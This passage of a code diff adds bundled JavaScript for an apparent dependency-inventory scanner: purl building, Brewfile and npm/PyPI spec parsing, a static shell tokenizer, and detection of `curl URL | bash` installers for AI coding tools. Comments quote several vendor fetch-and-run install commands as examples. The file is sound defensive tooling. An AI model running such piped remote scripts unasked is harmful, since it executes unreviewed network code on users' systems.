+        budget.push(`> **Truncated:** ${omitted} more ${omitted === 1 ? 'entry is' : 'entries are'} not shown here to stay within the size limit; the full JSON report (output \`report-file\`) lists everything.`);
+    }
+    return budget.lines.join('\n').replace(/\n+$/, '') + '\n';
+}
+
+// EXTERNAL MODULE: external "node:crypto"
+var external_node_crypto_ = __nccwpck_require__(77598);
+// EXTERNAL MODULE: ./node_modules/packageurl-js/index.js
+var packageurl_js = __nccwpck_require__(87091);
+;// CONCATENATED MODULE: ./src/util/purl.ts
+
+/**
+ * Builds the Package URL of a component. npm scopes become the purl namespace
+ * (`pkg:npm/%40scope/name@1.0.0`); PyPI names are PEP 503-normalised by packageurl-js.
+ * A null version is left out of the purl.
+ */
+function purlFor(ecosystem, name, version) {
+    try {
+        switch (ecosystem) {
+            case 'npm':
+            case 'jsr': {
+                const slash = name.startsWith('@') ? name.indexOf('/') : -1;
+                const ns = slash > 0 ? name.slice(0, slash) : undefined;
+                const base = slash > 0 ? name.slice(slash + 1) : name;
+                return new packageurl_js.PackageURL(ecosystem, ns, base, version ?? undefined).toString();
+            }
+            case 'pypi':
+                return new packageurl_js.PackageURL('pypi', undefined, name, version ?? undefined).toString();
+            case 'vscode-extension': {
+                const dot = name.indexOf('.');
+                return new packageurl_js.PackageURL('vscode-extension', dot > 0 ? name.slice(0, dot) : undefined, dot > 0 ? name.slice(dot + 1) : name, version ?? undefined).toString();
+            }
+            case 'github-action': {
+                const [owner, repo, ...rest] = name.split('/');
+                return new packageurl_js.PackageURL('githubactions', owner, repo ?? name, version ?? undefined, undefined, rest.length ? rest.join('/') : undefined).toString();
+            }
+            case 'devcontainer-feature': {
+                // OCI ids are registry/namespace/name: keep them whole as a qualifier-free generic purl.
+                const i = name.lastIndexOf('/');
+                return new packageurl_js.PackageURL('generic', i > 0 ? 'devcontainer-feature/' + name.slice(0, i) : 'devcontainer-feature', i > 0 ? name.slice(i + 1) : name, version ?? undefined).toString();
+            }
+            case 'homebrew':
+                return new packageurl_js.PackageURL('homebrew', undefined, name, version ?? undefined).toString();
+            case 'installer':
+                return new packageurl_js.PackageURL('generic', 'installer', name, version ?? undefined).toString();
+        }
+    }
+    catch {
+        // Names from hostile files can be anything; never let purl construction throw.
+    }
+    return `pkg:generic/${encodeURIComponent(ecosystem)}/${encodeURIComponent(name)}${version ? '@' + encodeURIComponent(version) : ''}`;
+}
+
+;// CONCATENATED MODULE: ./src/detectors/component.ts
+
+/** Builds a component, computing its purl from ecosystem, name and version. */
+function makeComponent(init) {
+    return { ...init, purl: init.purl ?? purlFor(init.ecosystem, init.name, init.version) };
+}
+
+;// CONCATENATED MODULE: ./src/detectors/brewfile.ts
+
+const BREWFILE_SOURCE = 'Brewfile';
+function scanBrewfile(path, text) {
+    const components = [];
+    const lines = text.split('\n');
+    for (let i = 0; i < lines.length; i++) {
+        const m = /^\s*(brew|cask)\s*\(?\s*(["'])([^"'\s]+)\2/.exec(lines[i]);
+        if (!m)
+            continue;
+        components.push(makeComponent({
+            ecosystem: 'homebrew',
+            name: m[3],
+            version: null,
+            spec: 'latest',
+            location: { file: path, line: i + 1 },
+            source: BREWFILE_SOURCE,
+            sourceKind: 'registry',
+            resolved: m[1] === 'cask' ? 'cask' : 'formula',
+        }));
+    }
+    return { components, errors: [] };
+}
+const brewfileDetector = {
+    id: BREWFILE_SOURCE,
+    matches: (p) => /(^|\/)\.?Brewfile$/.test(p),
+    detect: ({ path, text }) => scanBrewfile(path, text),
+};
+
+// EXTERNAL MODULE: ./node_modules/yaml/dist/index.js
+var dist = __nccwpck_require__(38815);
+;// CONCATENATED MODULE: ./src/commands/components.ts
+// Turns command findings into located components and scanner problems into located errors.
+
+function findingComponent(f, file, source) {
+    return makeComponent({
+        ecosystem: f.ecosystem,
+        name: f.name,
+        version: f.version,
+        ...(f.version === null && f.spec !== undefined ? { spec: f.spec } : {}),
+        location: { file, line: f.line },
+        source,
+        sourceKind: f.sourceKind,
+        ...(f.resolved !== undefined ? { resolved: f.resolved } : {}),
+        ...(f.alias !== undefined ? { alias: f.alias } : {}),
+    });
+}
+function problemError(p, file, what = 'shell') {
+    return { file, line: p.line, message: `${what}: ${p.message}` };
+}
+
+;// CONCATENATED MODULE: ./src/commands/expand.ts
+const MAX_DEPTH = 16;
+function expandParts(parts, lookup, depth = 0) {
+    let text = '';
+    let unknown = false;
+    for (const p of parts) {
+        if (p.k === 'lit')
+            text += p.text;
+        else if (p.k === 'opaque') {
+            // `${{ env.NAME }}` in a workflow reads the step's environment.
+            const env = /^\$\{\{\s*env\.([A-Za-z_][A-Za-z0-9_]*)\s*\}\}$/.exec(p.raw);
+            const v = env ? lookup(env[1]) : undefined;
+            text += v ? v.text : p.raw;
+            if (!v || v.unknown)
+                unknown = true;
+        }
+        else {
+            const v = expandParam(p, lookup, depth);
+            text += v.text;
+            if (v.unknown)
+                unknown = true;
+        }
+    }
+    return { text, unknown };
+}
+function expandParam(p, lookup, depth) {
+    if (depth > MAX_DEPTH)
+        return { text: p.raw, unknown: true };
+    const v = lookup(p.name);
+    const set = v !== undefined;
+    const nonEmpty = set && (v.unknown || v.text !== '');
+    const arg = () => expandParts(p.arg, lookup, depth + 1);
+    switch (p.op) {
+        case '':
+            return v ?? { text: p.raw, unknown: true };
+        case ':-':
+        case ':=':
+            if (v?.unknown)
+                return { text: p.raw, unknown: true };
+            return nonEmpty ? v : arg();
+        case '-':
+        case '=':
+            if (v?.unknown)
+                return { text: p.raw, unknown: true };
+            return set ? v : arg();
+        case ':?':
+        case '?':
+            return v ?? { text: p.raw, unknown: true };
+        case ':+':
+        case '+':
+            if (v === undefined || v.unknown)
+                return { text: p.raw, unknown: true };
+            return (p.op === '+' ? set : nonEmpty) ? arg() : { text: '', unknown: false };
+        default:
+            return { text: p.raw, unknown: true };
+    }
+}
+function expandWord(word, lookup) {
+    const v = expandParts(word.parts, lookup);
+    return { text: v.text, unknown: v.unknown, start: word.start, word };
+}
+/** `NAME=value` at the start of a word: its name and the parts of the value. */
+function splitAssignment(word) {
+    const first = word.parts[0];
+    if (!first || first.k !== 'lit')
+        return null;
+    const m = /^([A-Za-z_][A-Za-z0-9_]*)=/.exec(first.text);
+    if (!m)
+        return null;
+    // The name must be unquoted: `"A=b"` is not an assignment.
+    if (!word.raw.startsWith(m[0]))
+        return null;
+    const rest = first.text.slice(m[0].length);
+    const value = rest ? [{ k: 'lit', text: rest }, ...word.parts.slice(1)] : word.parts.slice(1);
+    return { name: m[1], value };
+}
+
+;// CONCATENATED MODULE: ./src/commands/installers.ts
+// Vendor install scripts and release-download URLs of AI coding tools: how each names itself as
+// an `installer` component and how each is told which version to install.
+/**
+ * Install scripts whose version input is documented by the vendor. Unknown scripts piped to a
+ * shell are still reported as `installer` components (version null, spec `latest` or the
+ * arguments as written).
+ */
+const vendorInstallers = [
+    // Claude Code native installer: `curl -fsSL https://claude.ai/install.sh | bash -s -- 2.1.110`
+    // (also `stable`/`latest`); the PowerShell and cmd variants take the same argument.
+    { pattern: /^claude\.ai\/install\.(sh|ps1|cmd)$/, tool: 'claude-code', version: { kind: 'positional' } },
+    // The bootstrap script install.sh hands over to, also fetched directly.
+    {
+        pattern: /^(downloads\.claude\.ai|storage\.googleapis\.com\/[^/]+)\/claude-code-releases\/bootstrap\.(sh|ps1)$/,
+        tool: 'claude-code',
+        version: { kind: 'positional' },
+    },
+    // GitHub Copilot CLI: `curl -fsSL https://gh.io/copilot-install | VERSION="v0.0.369" bash`.
+    { pattern: /^gh\.io\/copilot-install$/, tool: 'copilot-cli', version: { kind: 'env', name: 'VERSION' } },
+    {
+        pattern: /^raw\.githubusercontent\.com\/github\/copilot-cli\/[^/]+\/install\.sh$/,
+        tool: 'copilot-cli',
+        version: { kind: 'env', name: 'VERSION' },
+    },
+    // OpenCode: `curl -fsSL https://opencode.ai/install | bash -s -- --version 1.2.3`.
+    { pattern: /^opencode\.ai\/install$/, tool: 'opencode', version: { kind: 'flag', flag: '--version' } },
+    // Goose: `curl -fsSL …/block/goose/releases/download/stable/download_cli.sh | GOOSE_VERSION=v1.45.0 bash`.
+    {
+        pattern: /^github\.com\/block\/goose\/releases\/download\/[^/]+\/download_cli\.sh$/,
+        tool: 'goose',
+        version: { kind: 'env', name: 'GOOSE_VERSION' },
+    },
+    // Cursor CLI, Aider and Amp install the latest release.
+    { pattern: /^cursor\.com\/install$/, tool: 'cursor-cli', version: { kind: 'none' } },
+    { pattern: /^aider\.chat\/install\.(sh|ps1)$/, tool: 'aider', version: { kind: 'none' } },
+    { pattern: /^ampcode\.com\/install\.sh$/, tool: 'amp', version: { kind: 'none' } },
+    // Kimi Code CLI and Qwen Code install their latest release.
+    { pattern: /^code\.kimi\.com\/install\.(sh|ps1)$/, tool: 'kimi-cli', version: { kind: 'none' } },
+    {
+        pattern: /^qwen-code-assets\.oss-cn-hangzhou\.aliyuncs\.com\/installation\/install-qwen\.(sh|bat)$/,
+        tool: 'qwen-code',
+        version: { kind: 'none' },
+    },
+];
+function vendorInstaller(name) {
+    return vendorInstallers.find((v) => v.pattern.test(name));
+}
+/**
+ * The `installer` component name of a URL: without scheme, query or fragment, host lowercased.
+ * Null when the text is not an http(s) URL.
+ */
+function installerName(url) {
+    const m = /^(?:https?:\/\/)([^/?#\s]+)([^?#\s]*)/i.exec(url);
+    if (!m)
+        return null;
+    const host = m[1].toLowerCase().replace(/^[^@]*@/, '');
+    return host + m[2];
+}
+/**
+ * Release downloads: GitHub release assets (`github.com/o/r/releases/download/<tag>/…`,
+ * `…/releases/latest/download/…`) and Claude Code's native release bucket
+ * (`…/claude-code-releases/<version>/<platform>/claude`).
+ */
+function releaseDownload(url) {
+    const name = installerName(url);
+    if (!name)
+        return null;
+    let m = /^github\.com\/([^/]+)\/([^/]+)\/releases\/(?:download\/([^/]+)|(latest)\/download)\/./i.exec(name);
+    if (m) {
+        const channel = `github.com/${m[1].toLowerCase()}/${m[2].toLowerCase()}/releases`;
+        const tag = m[3] ?? 'latest';
+        const version = versionFromTag(tag);
+        return version ? { name: channel, version } : { name: channel, version: null, spec: tag };
+    }
+    m = /^(.*\/claude-code-releases)\/([^/]+)\/./.exec(name);
+    if (m) {
+        const version = versionFromTag(m[2]);
+        return version ? { name: m[1], version } : { name: m[1], version: null, spec: m[2] };
+    }
+    return null;
+}
+/** `v1.2.3`, `rust-v0.58.0`, `1.2.3` → `1.2.3`; channels (`latest`, `stable`) → null. */
+function versionFromTag(tag) {
+    const m = /^(?:[A-Za-z][A-Za-z0-9_.]*-)?v?(\d+\.\d+\.\d+(?:[-+][0-9A-Za-z.-]+)?)$/.exec(tag);
+    return m ? m[1] : null;
+}
+
+// EXTERNAL MODULE: ./node_modules/semver/index.js
+var node_modules_semver = __nccwpck_require__(62088);
+var semver_default = /*#__PURE__*/__nccwpck_require__.n(node_modules_semver);
+;// CONCATENATED MODULE: ./src/commands/packages.ts
+// Package specs as written on command lines: npm (`name@spec`, `alias@npm:real@spec`) and PyPI
+// requirements (`name[extra]==1.2`).
+
+const NPM_NAME = /^(?:@[a-z0-9~][a-z0-9._~-]*\/)?[a-z0-9~][a-z0-9._~-]*$/i;
+/** An exact version (`1.2.3`, `v1.2.3`), or null. */
+function exactVersion(spec) {
+    return semver_default().valid(spec, { loose: false }) ?? null;
+}
+/**
+ * Reads an npm package argument. `unknown` says the text holds unexpanded variables (kept as
+ * written). Null for arguments that do not name a registry package (paths, URLs, git specs).
+ */
+function parseNpmSpec(text, unknown) {
+    if (!text ||
+        /^[./~]/.test(text) ||
+        /^(file|link|portal|workspace|git|git\+\w+|github|gitlab|bitbucket|gist|https?):/i.test(text))
+        return registryTarball(text);
+    if (text.startsWith('npm:'))
+        text = text.slice(4);
+    const at = text.indexOf('@', 1);
+    const name = at === -1 ? text : text.slice(0, at);
+    const spec = at === -1 ? '' : text.slice(at + 1);
+    if (spec.startsWith('npm:')) {
+        const real = parseNpmSpec(spec.slice(4), unknown);
+        return real && NPM_NAME.test(name) ? { ...real, alias: name } : null;
+    }
+    if (!NPM_NAME.test(name))
+        return null;
+    if (!spec)
+        return { name, version: null, spec: 'latest' };
+    if (/^(file|link|git|github|https?):/i.test(spec) || spec.includes('/'))
+        return null;
+    const version = unknown ? null : exactVersion(spec);
+    return version ? { name, version } : { name, version: null, spec };
+}
+/** A registry tarball URL (`…/@scope/name/-/name-1.2.3.tgz`) names a package and version. */
+function registryTarball(text) {
+    const m = /^https?:\/\/[^/]+(?:\/[^/]+)*?\/((?:@[^/]+\/)?[^/]+)\/-\/[^/]+-(\d+\.\d+\.\d+[^/]*?)\.tgz$/i.exec(text);
+    if (!m)
+        return null;
+    const name = decodeURIComponent(m[1]);
+    return NPM_NAME.test(name) ? { name, version: m[2] } : null;
+}
+/** PEP 503 normalisation. */
+function normalizePypiName(name) {
+    return name.toLowerCase().replace(/[-_.]+/g, '-');
+}
+/**
+ * Reads a PEP 508 requirement as written on a pip/pipx/uv command line. `==1.2` (or `===`)
+ * is an exact version; any other specifier is kept as the spec. `uvx` also writes `name@1.2`.
+ */
+function parsePypiSpec(text, unknown, atVersion = false) {
+    const m = /^([A-Za-z0-9][A-Za-z0-9._-]*)(\[[^\]]*\])?\s*(.*)$/s.exec(text.trim());
+    if (!m)
+        return null;
+    const name = normalizePypiName(m[1]);
+    let rest = m[3].trim();
+    if (rest.startsWith(';'))
+        rest = '';
+    rest = rest.replace(/\s*;.*$/s, '');
+    if (!rest)
+        return { name, version: null, spec: 'latest' };
+    if (atVersion && rest.startsWith('@') && !rest.includes('://')) {
+        const v = rest.slice(1);
+        if (v === 'latest')
+            return { name, version: null, spec: 'latest' };
+        return !unknown && /^\d[\w.+!-]*$/.test(v) ? { name, version: v } : { name, version: null, spec: v };
+    }
+    if (rest.startsWith('@'))
+        return null; // a direct URL reference
+    if (!/^(===|==|~=|!=|<=|>=|<|>)/.test(rest))
+        return null;
+    const exact = /^===?\s*([^,\s*]+)$/.exec(rest);
+    if (exact && !unknown && /^\d/.test(exact[1]))
+        return { name, version: exact[1] };
+    return { name, version: null, spec: rest };
+}
+
+;// CONCATENATED MODULE: ./src/commands/shell.ts
+// A POSIX-shell tokenizer for static reading of install commands: quotes, escapes, line
+// continuations, comments, operators, redirections, here-documents, parameter expansions
+// (`$V`, `${V}`, `${V:-default}`), command and process substitutions. It never executes
+// anything; words keep their parts so that expansion can happen later, in order, with the
+// variables known at that point of the script.
+const RESERVED_PREFIX = new Set([
+    'if',
+    'then',
+    'else',
+    'elif',
+    'do',
+    'while',
+    'until',
+    '!',
+    '{',
+    '}',
+    'time',
+]);
+const RESERVED_ALONE = new Set(['fi', 'done', 'esac', '}', 'then', 'else', 'do', '{']);
+/** Characters with no special meaning anywhere in a word. */
+const PLAIN = /[^ \t\n\r;&|()<>'"\\$`]+/y;
+/** Problems kept per script; the rest are dropped (one located problem is enough to fail). */
+const MAX_PROBLEMS = 20;
+/**
+ * Parses `text[start, end)` as a shell script. Offsets in the result are offsets into `text`.
+ * Never throws; unterminated quotes, substitutions and here-documents are reported as problems
+ * and read to the end.
+ */
+function parseShell(text, start = 0, end = text.length) {
+    return new Lexer(text, start, end).run();
+}
+class Lexer {
+    t;
+    end;
+    i;
+    pipelines = [];
+    problems = [];
+    command = null;
+    pipeline = [];
+    pendingHeredocs = [];
+    constructor(t, start, end) {
+        this.t = t;
+        this.end = end;
+        this.i = start;
+    }
+    run() {
+        const t = this.t;
+        while (this.i < this.end) {
+            const c = t[this.i];
+            if (c === ' ' || c === '\t' || c === '\r') {
+                this.i++;
+            }
+            else if (c === '\\' && t[this.i + 1] === '\n') {
+                this.i += 2;
+            }
+            else if (c === '\\' && t[this.i + 1] === '\r' && t[this.i + 2] === '\n') {
+                this.i += 3;
+            }
+            else if (c === '#') {
+                const nl = t.indexOf('\n', this.i);
+                this.i = nl === -1 || nl > this.end ? this.end : nl;
+            }
+            else if (c === '\n') {
+                this.i++;
+                this.endPipeline();
+                this.readHeredocBodies();
+            }
+            else if (c === ';' || c === '&' || c === '(' || c === ')') {
+                if (c === '&' && t[this.i + 1] === '>') {
+                    this.readRedirect();
+                    continue;
+                }
+                this.i += c === ';' && t[this.i + 1] === ';' ? 2 : c === '&' && t[this.i + 1] === '&' ? 2 : 1;
+                this.endPipeline();
+            }
+            else if (c === '|') {
+                if (t[this.i + 1] === '|') {
+                    this.i += 2;
+                    this.endPipeline();
+                }
+                else {
+                    this.i += t[this.i + 1] === '&' ? 2 : 1;
+                    this.endCommand();
+                }
+            }
+            else if ((c === '<' || c === '>') && t[this.i + 1] === '(') {
+                this.addWord(this.readWord());
+            }
+            else if (c === '<' || c === '>') {
+                this.readRedirect();
+            }
+            else {
+                const w = this.readWord();
+                // An io-number (`2>&1`): all digits directly followed by a redirection operator.
+                if (/^\d+$/.test(w.raw) && (t[this.i] === '>' || t[this.i] === '<') && t[this.i + 1] !== '(')
+                    continue;
+                this.addWord(w);
+            }
+        }
+        this.endPipeline();
+        for (const h of this.pendingHeredocs)
+            this.problem(h.at, `unterminated here-document (<<${h.delim})`);
+        this.pendingHeredocs = [];
+        return { pipelines: this.pipelines, problems: this.problems };
+    }
+    problem(offset, message) {
+        if (this.problems.length < MAX_PROBLEMS)
+            this.problems.push({ offset, message });
+    }
+    cmd(at) {
+        if (!this.command)
+            this.command = { words: [], redirects: [], start: at };
+        return this.command;
+    }
+    addWord(w) {
+        const cmd = this.cmd(w.start);
+        if (cmd.words.length === 0 && RESERVED_PREFIX.has(w.raw))
+            return;
+        cmd.words.push(w);
+    }
+    endCommand() {
+        const c = this.command;
+        this.command = null;
+        if (!c)
+            return;
+        if (c.words.length === 1 && RESERVED_ALONE.has(c.words[0].raw))
+            c.words = [];
+        if (c.words.length > 0 || c.redirects.length > 0)
+            this.pipeline.push(c);
+    }
+    endPipeline() {
+        this.endCommand();
+        if (this.pipeline.length > 0)
+            this.pipelines.push({ commands: this.pipeline });
+        this.pipeline = [];
+    }
+    readRedirect() {
+        const t = this.t;
+        const at = this.i;
+        const m = /^(<<<|<<-|<<|<>|<&|<|>>|>&|>\||>|&>>|&>)/.exec(t.slice(this.i, this.i + 3));
+        const op = m ? m[1] : t[this.i];
+        this.i += op.length;
+        while (this.i < this.end && (t[this.i] === ' ' || t[this.i] === '\t'))
+            this.i++;
+        const redirect = { op };
+        this.cmd(at).redirects.push(redirect);
+        if (this.i >= this.end || /[\n;&|()<>]/.test(t[this.i]))
+            return;
+        const target = this.readWord();
+        redirect.target = target;
+        if (op === '<<' || op === '<<-') {
+            const delim = target.parts.map((p) => (p.k === 'lit' ? p.text : p.raw)).join('');
+            this.pendingHeredocs.push({ delim, strip: op === '<<-', redirect, at });
+        }
+    }
+    readHeredocBodies() {
+        const t = this.t;
+        for (const h of this.pendingHeredocs) {
+            const bodyStart = this.i;
+            let found = false;
+            while (this.i < this.end) {
+                let nl = t.indexOf('\n', this.i);
+                if (nl === -1 || nl > this.end)
+                    nl = this.end;
+                let line = t.slice(this.i, nl);
+                if (line.endsWith('\r'))
+                    line = line.slice(0, -1);
+                if (h.strip)
+                    line = line.replace(/^\t+/, '');
+                if (line === h.delim) {
+                    h.redirect.heredoc = { body: t.slice(bodyStart, this.i), start: bodyStart };
+                    this.i = Math.min(nl + 1, this.end);
+                    found = true;
+                    break;
+                }
+                this.i = nl + 1;
+            }
+            if (!found) {
+                this.i = this.end;
+                h.redirect.heredoc = { body: t.slice(bodyStart, this.end), start: bodyStart };
+                this.problem(h.at, `unterminated here-document (<<${h.delim})`);
+            }
+        }
+        this.pendingHeredocs = [];
+    }
+    /** Reads the whole text as the parts of one word (metacharacters are literal). */
+    readAllAsWord() {
+        return this.readWord(true).parts;
+    }
+    /** Reads one word at `this.i`, up to an unquoted metacharacter. */
+    readWord(whole = false) {
+        const t = this.t;
+        const start = this.i;
+        const parts = [];
+        let lit = '';
+        const flush = () => {
+            if (lit)
+                parts.push({ k: 'lit', text: lit });
+            lit = '';
+        };
+        while (this.i < this.end) {
+            // Runs of ordinary characters in one step.
+            PLAIN.lastIndex = this.i;
+            const run = PLAIN.exec(t);
+            if (run) {
+                const seg = this.i + run[0].length > this.end ? run[0].slice(0, this.end - this.i) : run[0];
+                lit += seg;
+                this.i += seg.length;
+                continue;
+            }
+            const c = t[this.i];
+            if (whole) {
+                // Metacharacters are literal inside a `${V:-…}` argument.
+            }
+            else if (c === ' ' ||
+                c === '\t' ||
+                c === '\n' ||
+                c === '\r' ||
+                c === ';' ||
+                c === '&' ||
+                c === '|' ||
+                c === ')')
+                break;
+            else if (c === '(')
+                break;
+            else if (c === '<' || c === '>') {
+                if (t[this.i + 1] === '(') {
+                    flush();
+                    const s = this.i;
+                    const close = this.matchParen(this.i + 2);
+                    parts.push({
+                        k: 'opaque',
+                        raw: t.slice(s, close),
+                        script: { text: t.slice(s + 2, close - 1), start: s + 2 },
+                    });
+                    this.i = close;
+                    continue;
+                }
+                break;
+            }
+            if (c === '\\') {
+                const n = t[this.i + 1];
+                if (n === '\n')
+                    this.i += 2;
+                else if (n === '\r' && t[this.i + 2] === '\n')
+                    this.i += 3;
+                else if (n === undefined || this.i + 1 >= this.end)
+                    this.i++;
+                else {
+                    lit += n;
+                    this.i += 2;
+                }
+            }
+            else if (c === "'") {
+                const close = t.indexOf("'", this.i + 1);
+                if (close === -1 || close >= this.end) {
+                    this.problem(this.i, 'unterminated single quote');
+                    lit += t.slice(this.i + 1, this.end);
+                    this.i = this.end;
+                }
+                else {
+                    lit += t.slice(this.i + 1, close);
+                    this.i = close + 1;
+                }
+            }
+            else if (c === '"') {
+                const q = this.i;
+                this.i++;
+                let closed = false;
+                while (this.i < this.end) {
+                    const d = t[this.i];
+                    if (d === '"') {
+                        this.i++;
+                        closed = true;
+                        break;
+                    }
+                    if (d === '\\') {
+                        const n = t[this.i + 1];
+                        if (n === '\n')
+                            this.i += 2;
+                        else if (n === '$' || n === '`' || n === '"' || n === '\\') {
+                            lit += n;
+                            this.i += 2;
+                        }
+                        else {
+                            lit += d;
+                            this.i++;
+                        }
+                    }
+                    else if (d === '$') {
+                        const p = this.readDollar(true);
+                        if (p) {
+                            flush();
+                            parts.push(p);
+                        }
+                        else {
+                            lit += '$';
+                            this.i++;
+                        }
+                    }
+                    else if (d === '`') {
+                        flush();
+                        parts.push(this.readBacktick());
+                    }
+                    else {
+                        lit += d;
+                        this.i++;
+                    }
+                }
+                if (!closed)
+                    this.problem(q, 'unterminated double quote');
+            }
+            else if (c === '$') {
+                const p = this.readDollar(false);
+                if (p) {
+                    flush();
+                    if (p.k === 'lit')
+                        lit += p.text;
+                    else
+                        parts.push(p);
+                }
+                else {
+                    lit += '$';
+                    this.i++;
+                }
+            }
+            else if (c === '`') {
+                flush();
+                parts.push(this.readBacktick());
+            }
+            else {
+                lit += c;
+                this.i++;
+            }
+        }
+        flush();
+        return { parts, start, raw: t.slice(start, this.i) };
+    }
+    readBacktick() {
+        const t = this.t;
+        const s = this.i;
+        let j = s + 1;
+        while (j < this.end && t[j] !== '`')
+            j += t[j] === '\\' ? 2 : 1;
+        if (j >= this.end) {
+            this.problem(s, 'unterminated backquote');
+            j = this.end - 1;
+        }
+        this.i = Math.min(j + 1, this.end);
+        return { k: 'opaque', raw: t.slice(s, this.i), script: { text: t.slice(s + 1, j), start: s + 1 } };
+    }
+    /** Offset just past the `)` that closes a `(` opened before `from`. */
+    matchParen(from) {
+        const t = this.t;
+        let depth = 1;
+        let j = from;
+        while (j < this.end) {
+            const c = t[j];
+            if (c === '\\')
+                j += 2;
+            else if (c === "'") {
+                const close = t.indexOf("'", j + 1);
+                j = close === -1 || close >= this.end ? this.end : close + 1;
+            }
+            else if (c === '"') {
+                j++;
+                while (j < this.end && t[j] !== '"')
+                    j += t[j] === '\\' ? 2 : 1;
+                j++;
+            }
+            else if (c === '(') {
+                depth++;
+                j++;
+            }
+            else if (c === ')') {
+                depth--;
+                j++;
+                if (depth === 0)
+                    return j;
+            }
+            else
+                j++;
+        }
+        this.problem(from - 2, 'unterminated substitution');
+        return this.end;
+    }
+    /** Offset just past the `}` that closes a `${` whose content starts at `from`. */
+    matchBrace(from) {
+        const t = this.t;
+        let depth = 1;
+        let j = from;
+        while (j < this.end) {
+            const c = t[j];
+            if (c === '\\')
+                j += 2;
+            else if (c === "'") {
+                const close = t.indexOf("'", j + 1);
+                j = close === -1 || close >= this.end ? this.end : close + 1;
+            }
+            else if (c === '"') {
+                j++;
+                while (j < this.end && t[j] !== '"')
+                    j += t[j] === '\\' ? 2 : 1;
+                j++;
+            }
+            else if (c === '$' && t[j + 1] === '{') {
+                depth++;
+                j += 2;
+            }
+            else if (c === '}') {
+                depth--;
+                j++;
+                if (depth === 0)
+                    return j;
+            }
+            else
+                j++;
+        }
+        return -1;
+    }
+    /** Reads a `$…` construct at `this.i`; null when the `$` is a literal dollar sign. */
+    readDollar(inDouble) {
+        const t = this.t;
+        const s = this.i;
+        const n = t[s + 1];
+        if (n === undefined || s + 1 >= this.end)
+            return null;
+        if (n === "'" && !inDouble) {
+            // ANSI-C quoting.
+            let j = s + 2;
+            let out = '';
+            while (j < this.end && t[j] !== "'") {
+                if (t[j] === '\\' && j + 1 < this.end) {
+                    const e = t[j + 1];
+                    out += e === 'n' ? '\n' : e === 't' ? '\t' : e;
+                    j += 2;
+                }
+                else
+                    out += t[j++];
+            }
+            if (j >= this.end)
+                this.problem(s, 'unterminated single quote');
+            this.i = Math.min(j + 1, this.end);
+            return { k: 'lit', text: out };
+        }
+        if (n === '(') {
+            const arith = t[s + 2] === '(';
+            const close = this.matchParen(s + 2);
+            this.i = close;
+            const raw = t.slice(s, close);
+            return arith
+                ? { k: 'opaque', raw }
+                : { k: 'opaque', raw, script: { text: t.slice(s + 2, close - 1), start: s + 2 } };
+        }
+        if (n === '{') {
+            if (t[s + 2] === '{') {
+                // A GitHub Actions expression `${{ … }}`.
+                let close = t.indexOf('}}', s + 3);
+                close = close === -1 || close + 2 > this.end ? this.end : close + 2;
+                this.i = close;
+                return { k: 'opaque', raw: t.slice(s, close) };
+            }
+            const close = this.matchBrace(s + 2);
+            if (close === -1) {
+                this.problem(s, 'unterminated ${');
+                this.i = this.end;
+                return { k: 'opaque', raw: t.slice(s, this.end) };
+            }
+            this.i = close;
+            const raw = t.slice(s, close);
+            const inner = t.slice(s + 2, close - 1);
+            const m = /^([A-Za-z_][A-Za-z0-9_]*)(?:(:?[-=?+])([\s\S]*))?$/.exec(inner);
+            if (!m)
+                return { k: 'opaque', raw };
+            const arg = m[3] !== undefined ? parseWordText(m[3]) : [];
+            return { k: 'param', name: m[1], op: m[2] ?? '', arg, raw };
+        }
+        const m = /^[A-Za-z_][A-Za-z0-9_]*/.exec(t.slice(s + 1, Math.min(this.end, s + 257)));
+        if (m) {
+            this.i = s + 1 + m[0].length;
+            return { k: 'param', name: m[0], op: '', arg: [], raw: t.slice(s, this.i) };
+        }
+        if (/[0-9@*#?$!-]/.test(n)) {
+            this.i = s + 2;
+            return { k: 'opaque', raw: t.slice(s, s + 2) };
+        }
+        if (n === '"' && !inDouble) {
+            // `$"…"` (locale translation) reads as a double-quoted string.
+            this.i = s + 1;
+            return { k: 'lit', text: '' };
+        }
+        return null;
+    }
+}
+/** Parses the text of a `${V:-arg}` argument: quotes and expansions, no word splitting. */
+function parseWordText(text) {
+    return new Lexer(text, 0, text.length).readAllAsWord();
+}
+
+;// CONCATENATED MODULE: ./src/commands/scan.ts
+
+
+
+
+/** State shared by every script of one file (Dockerfile RUNs share downloads and variables). */
+class CommandScanner {
+    env;
+    maxSteps;
+    findings = [];
+    scriptRuns = [];
+    problems = [];
+    /** Files fetched by earlier commands: path → URL. */
+    downloads = new Map();
+    steps = 0;
+    constructor(
+    /** Variables known before the script (ARG/ENV/build args); later assignments add to it. */
+    env = new Map(), 
+    /** Most commands read per file, a bound on hostile input. */
+    maxSteps = 2_000_000) {
+        this.env = env;
+        this.maxSteps = maxSteps;
+    }
+    /**
+     * Scans `text[start, end)`. `locate` maps an offset of `text` to a 1-based line of the file.
+     */
+    scan(text, locate, start = 0, end = text.length, depth = 0) {
+        if (depth > 8)
+            return;
+        const parsed = parseShell(text, start, end);
+        for (const p of parsed.problems)
+            this.problems.push({ line: locate(p.offset), message: p.message });
+        for (const pipeline of parsed.pipelines) {
+            if (++this.steps > this.maxSteps) {
+                if (this.steps > this.maxSteps + 1)
+                    return;
+                const at = pipeline.commands[0]?.start ?? start;
+                this.problems.push({
+                    line: locate(at),
+                    message: `more than ${this.maxSteps} commands; the rest was not read`,
+                });
+                return;
+            }
+            this.pipeline(pipeline.commands, text, locate, depth);
+        }
+    }
+    /** Marks downloads never run as installers that are still installers (reported at the fetch). */
+    finish() {
+        for (const d of new Set(this.downloads.values())) {
+            if (d.used)
+                continue;
+            d.used = true;
+            this.reportFetched(d.url, d.line);
+        }
+    }
+    lookup(overlay) {
+        return (name) => overlay?.get(name) ?? this.env.get(name);
+    }
+    pipeline(commands, text, locate, depth) {
+        const prepared = commands.map((c) => this.prepare(c));
+        for (let i = 0; i < prepared.length; i++) {
+            const cmd = prepared[i];
+            const next = prepared[i + 1];
+            // `curl URL | [VERSION=x] [sudo] bash -s -- ARGS`
+            if (next && cmd.argv.length > 0 && isFetcher(cmd.argv[0].text)) {
+                const url = fetchUrl(cmd.argv);
+                const shell = next.argv.length > 0 && isPipeShell(next.argv[0].text) ? next : null;
+                if (url && shell) {
+                    this.reportInstaller(url.text, locate(url.start), shell.argv.slice(1), shell.overlay);
+                    // The shell reads the script from stdin; its own arguments are not a script path.
+                    shell.consumed = true;
+                    cmd.consumed = true;
+                    continue;
+                }
+            }
+            // `cat <<EOF | bash`: the here-document is the script.
